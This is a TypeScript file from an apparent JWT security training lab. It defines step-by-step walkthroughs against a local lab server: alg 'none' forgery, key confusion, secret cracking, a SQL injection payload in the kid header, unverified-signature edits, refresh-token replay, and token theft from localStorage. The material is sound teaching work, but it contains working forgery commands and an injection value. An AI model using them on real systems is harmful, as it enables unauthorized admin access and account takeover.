import type { WalkthroughDeclaration, WalkthroughStepDeclaration } from '../lab-registry';

/**
 * The JWT lab's hands-on walkthroughs (the attack catalogue): what the
 * learner does by hand. The server checks each step from the recorded
 * traffic and the lab's keys (server/labs/jwt/walkthroughs.ts, keyed by these
 * step ids). The curl answers use the default app origin, http://127.0.0.1:4010.
 */

const APP = 'http://127.0.0.1:4010';

const CURL_LOGIN = `curl -si -H 'content-type: application/json' -d '{"email":"user@authlab.test","password":"<the demo password from Accounts>"}' ${APP}/api/jwt/login | tee login.txt
TOKEN=$(grep -o '"accessToken":"[^"]*"' login.txt | cut -d'"' -f4)`;

/** Edits a token's payload to role admin with node, keeping header and signature as given. */
const nodeForge = (header: string, signature: string) =>
  `node -e 'const [h,p,s]=process.argv[1].split(".");const d=o=>JSON.parse(Buffer.from(o,"base64url"));const e=o=>Buffer.from(JSON.stringify(o)).toString("base64url");console.log(e(${header})+"."+e({...d(p),role:"admin"})+"."+${signature})' "$TOKEN"`;

const tokenStep = (
  task = 'Sign in to the JWT lab as user@authlab.test and keep the access token.',
): WalkthroughStepDeclaration => ({
  id: 'token',
  task,
  hint: 'POST /api/jwt/login answers with an accessToken (a JWT) in the body; the refresh token goes into an HttpOnly cookie.',
  answer: `Sign in on the JWT lab page and copy the token, or:\n${CURL_LOGIN}`,
});

const sendStep = (what: string): WalkthroughStepDeclaration => ({
  id: 'send',
  task: `Call GET /api/jwt/admin with ${what} as the bearer token.`,
  hint: 'The token goes in an Authorization: Bearer header. 200 means the server took you for an admin; 401 means it refused the token.',
  answer: `curl -i -H "authorization: Bearer $FORGED" ${APP}/api/jwt/admin   (or the inspector's "Try on GET /api/jwt/admin")`,
});

export const JWT_WALKTHROUGHS = {
  algNone: {
    goal: 'Get GET /api/jwt/admin to answer 200 to a token with alg "none", role admin and no signature.',
    steps: [
      tokenStep(),
      {
        id: 'forge',
        task: 'Make an unsigned admin token: header alg "none", payload role "admin", empty signature. Paste it.',
        hint: 'The token inspector (#/inspector) has "Forge alg none": paste your token, set role to admin in the payload, forge.',
        answer: `In the inspector: edit the payload to "role":"admin" and press "Forge alg none". Or:\nFORGED=$(${nodeForge('{...d(h),alg:"none"}', '""')}); echo $FORGED`,
        paste: { label: 'The forged token' },
      },
      sendStep('the unsigned token'),
    ],
  },
  keyConfusion: {
    goal: 'Get GET /api/jwt/admin to answer 200 to an HS256 token signed with the lab\u2019s public key as the HMAC secret.',
    steps: [
      {
        id: 'jwks',
        task: 'Download the lab\u2019s public keys from /.well-known/jwks.json. If the lab signs with HS256, rotate to RS256 first on the JWT lab\u2019s key step.',
        hint: 'The JWKS is public by design: anyone may fetch it to verify tokens.',
        answer: `curl -s ${APP}/.well-known/jwks.json`,
      },
      tokenStep(),
      {
        id: 'forge',
        task: 'Sign your token\u2019s claims, with role "admin", with HS256 using the public key\u2019s PEM text as the secret. Keep the kid. Paste the token.',
        hint: 'In the inspector: paste your token, edit the role, press "Sign HS256 with the public key". The PEM text, newlines and all, is the HMAC key.',
        answer:
          'Inspector (#/inspector): payload "role":"admin", then "Sign HS256 with the public key", then copy the forged token.',
        paste: { label: 'The forged token' },
      },
      sendStep('the HS256 token'),
    ],
  },
  weakSecret: {
    goal: 'Crack the HS256 secret of a captured token with a dictionary, and sign an admin token with it.',
    steps: [
      tokenStep(
        'Capture one HS256 token: sign in to the JWT lab (rotate to HS256 on the key step first if it signs with another algorithm).',
      ),
      {
        id: 'crack',
        task: 'Crack the secret offline with the lab\u2019s word list (GET /api/lab/jwt/wordlist) and paste it. If nothing matches, paste "none".',
        hint: 'The inspector\u2019s "Crack a weak HS256 secret" tries every word as the HMAC key until the signature matches.',
        answer:
          'Inspector (#/inspector): paste the token, press Crack. Or try each word of the list with any JWT library; the one that verifies is the secret.',
        paste: { label: 'The secret you found' },
      },
      {
        id: 'send',
        task: 'Re-sign the token with role "admin" and the cracked secret (if nothing matched, a word of the list), and call GET /api/jwt/admin with it.',
        hint: 'In the inspector: type the secret into "HS256 secret", edit the role, "Re-sign HS256", then "Try on GET /api/jwt/admin".',
        answer: `curl -i -H "authorization: Bearer $FORGED" ${APP}/api/jwt/admin`,
      },
    ],
  },
  kidInjection: {
    goal: 'Get GET /api/jwt/admin to answer 200 to a token whose kid injects SQL that returns a key you chose.',
    steps: [
      tokenStep(),
      {
        id: 'send',
        task: "Set the header's kid to x' UNION SELECT 'attacker-secret' --, sign role \"admin\" with HS256 and the secret attacker-secret, and call GET /api/jwt/admin with it.",
        hint: "If the kid is pasted into the key lookup's SQL, the UNION makes the query return your string as the key.",
        answer:
          'Inspector: edit the header\'s kid and the payload\'s role, type attacker-secret as the HS256 secret, "Re-sign HS256", then "Try on GET /api/jwt/admin".',
      },
    ],
  },
  noVerify: {
    goal: 'Get GET /api/jwt/admin to answer 200 to your own token with the payload edited to role admin and the old signature kept.',
    steps: [
      tokenStep(),
      {
        id: 'send',
        task: 'Change the payload\u2019s role to "admin", keep the header and the old signature, and call GET /api/jwt/admin with it.',
        hint: 'Only the middle part changes. The signature no longer matches: the question is whether the server checks.',
        answer: `FORGED=$(${nodeForge('d(h)', 's')})\ncurl -i -H "authorization: Bearer $FORGED" ${APP}/api/jwt/admin`,
      },
    ],
  },
  refreshReuse: {
    goal: 'Spend a refresh token the victim has already rotated, and see whether it still gives out tokens.',
    steps: [
      {
        id: 'login',
        task: 'Sign in and keep a copy of the refresh cookie (authlab_rt).',
        hint: 'The refresh token is only in the Set-Cookie header of the login answer.',
        answer: `${CURL_LOGIN}\nRT=$(grep -io 'authlab_rt=[^;]*' login.txt | head -1)`,
      },
      {
        id: 'rotate',
        task: 'Be the victim: refresh once with that cookie. It is rotated out and a new one is issued.',
        hint: 'POST /api/jwt/refresh with an empty JSON body and the cookie.',
        answer: `curl -i -X POST -H "cookie: $RT" -H 'content-type: application/json' -d '{}' ${APP}/api/jwt/refresh`,
      },
      {
        id: 'replay',
        task: 'Be the thief: spend the same old refresh cookie again.',
        hint: 'Send exactly the same request as before: the cookie you copied at sign-in.',
        answer: `curl -i -X POST -H "cookie: $RT" -H 'content-type: application/json' -d '{}' ${APP}/api/jwt/refresh`,
      },
    ],
  },
  localStorage: {
    goal: 'Read the access token out of localStorage with page script, as an XSS payload would, and use it from another machine.',
    steps: [
      tokenStep(
        'Sign in on the JWT lab page in this browser. To see the attack work, switch jwt.accessTokenInMemory off on the Defences page first.',
      ),
      {
        id: 'steal',
        task: 'In the browser\u2019s developer console on the lab page, run localStorage.getItem("authlab.jwt.accessToken") and paste what it gives (null if nothing).',
        hint: 'Any script running in the page\u2019s origin can read its localStorage; the console stands in for the injected payload.',
        answer:
          'localStorage.getItem("authlab.jwt.accessToken") in the console, then paste the token without quotes (or null).',
        paste: { label: 'What localStorage held' },
      },
      {
        id: 'use',
        task: 'As the attacker, call GET /api/jwt/me with the stolen token from curl.',
        hint: 'The token is a bearer token: whoever holds it is you until it expires.',
        answer: `curl -i -H 'authorization: Bearer <the token you pasted>' ${APP}/api/jwt/me`,
      },
    ],
  },
  longTtl: {
    goal: 'Use a copied access token long after it was issued, on the lab clock.',
    steps: [
      tokenStep(),
      {
        id: 'wait',
        task: 'Move the lab clock forward a day (at least an hour), leaving the token alone.',
        hint: 'The clock control is in the header, or POST /api/lab/clock with advanceMs.',
        answer: `curl -i -H 'content-type: application/json' -d '{"advanceMs":86400000}' ${APP}/api/lab/clock`,
      },
      {
        id: 'use',
        task: 'Call GET /api/jwt/me with the old token.',
        hint: 'A short-lived token expired long ago; a 30-day one has not.',
        answer: `curl -i -H "authorization: Bearer $TOKEN" ${APP}/api/jwt/me`,
      },
    ],
  },
} as const satisfies Record<string, WalkthroughDeclaration>;
